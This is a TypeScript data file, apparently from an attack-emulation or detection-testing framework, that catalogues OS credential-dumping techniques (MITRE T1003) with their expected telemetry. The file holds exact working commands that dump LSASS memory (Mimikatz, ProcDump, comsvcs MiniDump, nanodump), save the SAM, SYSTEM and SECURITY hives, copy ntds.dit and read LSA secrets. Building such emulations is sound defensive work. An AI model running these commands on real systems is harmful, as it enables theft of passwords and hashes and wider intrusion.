import { t, v } from "../dsl";

/** Credential access: the dumping and theft tooling of real intrusions. */
export const credentialAccess = [
  t(
    "T1003",
    "OS credential dumping",
    "Credential material pulled from LSASS, the SAM hive or NTDS with common tooling.",
    [
      v(
        "mimikatz",
        [
          {
            cmd: '{{tools}}\\mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit"',
            access: ["@lsass", "0x1010"],
          },
        ],
        { elevated: true },
      ),
      v(
        "reg-save-sam",
        [
          { cmd: "reg save HKLM\\SAM {{tools}}\\sam.save", files: ["{{tools}}\\sam.save"] },
          { cmd: "reg save HKLM\\SYSTEM {{tools}}\\system.save", files: ["{{tools}}\\system.save"] },
        ],
        { elevated: true },
      ),
      v(
        "procdump",
        [
          {
            cmd: "{{tools}}\\procdump.exe -accepteula -ma lsass.exe {{tools}}\\lsass.dmp",
            access: ["@lsass", "0x1fffff", "dbghelp.dll"],
            files: ["{{tools}}\\lsass.dmp"],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t(
    "T1003.001",
    "LSASS memory dump",
    "LSASS memory read or dumped with the tools intrusions use: Sysinternals ProcDump, comsvcs.dll MiniDump from PowerShell, Task Manager's Create dump file, and Mimikatz sekurlsa in memory.",
    [
      v(
        "procdump",
        [
          {
            cmd: "{{tools}}\\procdump64.exe -accepteula -ma lsass.exe {{tools}}\\{{lsass|lsass_dump|out}}.dmp",
            access: ["@lsass", "0x1fffff", "dbghelp.dll", "procdump64.exe"],
            files: ["{{tools}}\\lsass.dmp"],
          },
        ],
        { elevated: true },
      ),
      v(
        "comsvcs-powershell",
        [
          { ps: "Get-Process lsass" },
          {
            cmd: '"C:\\Windows\\System32\\rundll32.exe" C:\\windows\\System32\\comsvcs.dll, MiniDump {pid:@lsass} C:\\Windows\\Temp\\{{lsass|sam|debug}}.dmp full',
            loads: ["C:\\Windows\\System32\\comsvcs.dll", "C:\\Windows\\System32\\dbgcore.dll"],
            access: ["@lsass", "0x1fffff", "dbgcore.dll", "comsvcs.dll"],
            files: ["C:\\Windows\\Temp\\lsass.dmp"],
          },
        ],
        { shell: "ps", elevated: true },
      ),
      v(
        "taskmgr-dump",
        [
          {
            cmd: '"C:\\Windows\\system32\\taskmgr.exe" /4',
            elevated: true,
            access: ["@lsass", "0x1fffff", "dbgcore.dll", "taskmgr.exe"],
            files: ["{{tmp}}\\lsass.DMP"],
          },
        ],
        { shell: "none" },
      ),
      v(
        "mimikatz",
        [
          {
            cmd: '{{tools}}\\mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
            access: ["@lsass", "0x1010"],
          },
        ],
        { elevated: true },
      ),
      v(
        "nanodump",
        [
          {
            cmd: "{{tools}}\\nanodump.x64.exe --write C:\\Windows\\Temp\\{{rand}}.dmp --valid",
            access: ["@lsass", "0x1410"],
            files: ["C:\\Windows\\Temp\\{{rand}}.dmp"],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t(
    "T1003.002",
    "SAM",
    "SAM and SYSTEM hives saved with reg.exe, copied from a shadow copy, or read by secretsdump.",
    [
      v(
        "reg-save",
        [
          { cmd: "reg save HKLM\\SAM C:\\Windows\\Temp\\sam", files: ["C:\\Windows\\Temp\\sam"] },
          { cmd: "reg save HKLM\\SYSTEM C:\\Windows\\Temp\\system", files: ["C:\\Windows\\Temp\\system"] },
          {
            cmd: "reg save HKLM\\SECURITY C:\\Windows\\Temp\\security",
            files: ["C:\\Windows\\Temp\\security"],
          },
        ],
        { elevated: true },
      ),
      v(
        "shadow-copy",
        [
          {
            cmd: "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\Users\\Public\\sam.hive",
            files: ["C:\\Users\\Public\\sam.hive"],
          },
        ],
        { elevated: true },
      ),
      v(
        "esentutl",
        [
          {
            cmd: "esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d C:\\Windows\\Temp\\sam.dmp",
            files: ["C:\\Windows\\Temp\\sam.dmp"],
          },
        ],
        { elevated: true },
      ),
      v(
        "mimikatz-lsadump",
        ['{{tools}}\\mimikatz.exe "privilege::debug" "token::elevate" "lsadump::sam" exit'],
        { elevated: true },
      ),
    ],
  ),
  t(
    "T1003.003",
    "NTDS",
    "ntds.dit copied on a DC with ntdsutil IFM, vssadmin shadow copies or wmic shadowcopy.",
    [
      v(
        "ntdsutil-wmiexec",
        [
          {
            cmd: 'cmd.exe /Q /c ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\{{rand}}" q q 1> \\\\127.0.0.1\\ADMIN$\\__{{n}}.{{rand}} 2>&1',
            as: "c",
            host: "@dc",
            parent: "@wmiprvse",
            user: "@admin",
          },
          {
            cmd: 'ntdsutil.exe  "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\{{rand}}" q q',
            parent: "c",
            host: "@dc",
            files: ["C:\\Windows\\Temp\\{{rand}}\\Active Directory\\ntds.dit"],
          },
        ],
        { shell: "none", needs: ["domain admin on a domain controller"] },
      ),
      v(
        "vssadmin",
        [
          { cmd: "vssadmin create shadow /for=C:" },
          {
            cmd: "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\NTDS.dit C:\\Windows\\Temp\\ntds.dit",
            files: ["C:\\Windows\\Temp\\ntds.dit"],
          },
        ],
        { elevated: true },
      ),
      v(
        "wmic-shadowcopy",
        [
          'wmic shadowcopy call create Volume="C:\\"',
          {
            cmd: "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\Windows\\NTDS\\ntds.dit C:\\ProgramData\\ntds.dit",
            files: ["C:\\ProgramData\\ntds.dit"],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1003.004", "LSA secrets", "SECURITY hive saved or read by Mimikatz lsadump::secrets.", [
    v(
      "reg-save-security",
      [
        {
          cmd: "reg save HKLM\\SECURITY C:\\Windows\\Temp\\security.save",
          files: ["C:\\Windows\\Temp\\security.save"],
        },
      ],
      { elevated: true },
    ),
    v(
      "mimikatz-secrets",
      ['{{tools}}\\mimikatz.exe "privilege::debug" "token::elevate" "lsadump::secrets" exit'],
      { elevated: true },
    ),
    v(
      "psexec-reg",
      [
        "{{tools}}\\PsExec.exe -accepteula -s reg save HKLM\\security\\policy\\secrets C:\\Windows\\Temp\\secrets /y",
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1003.005",
    "Cached domain credentials",
    "DCC2 hashes read with Mimikatz lsadump::cache or from the SECURITY hive.",
    [
      v(
        "mimikatz-cache",
        ['{{tools}}\\mimikatz.exe "privilege::debug" "token::elevate" "lsadump::cache" exit'],
        { elevated: true },
      ),
      v(
        "reg-save",
        [
          { cmd: "reg save HKLM\\SECURITY {{tools}}\\sec.hiv", files: ["{{tools}}\\sec.hiv"] },
          { cmd: "reg save HKLM\\SYSTEM {{tools}}\\sys.hiv", files: ["{{tools}}\\sys.hiv"] },
        ],
        { elevated: true },
      ),
      v("cachedump", ["{{tools}}\\cachedump.exe"], { elevated: true }),
    ],
  ),
];
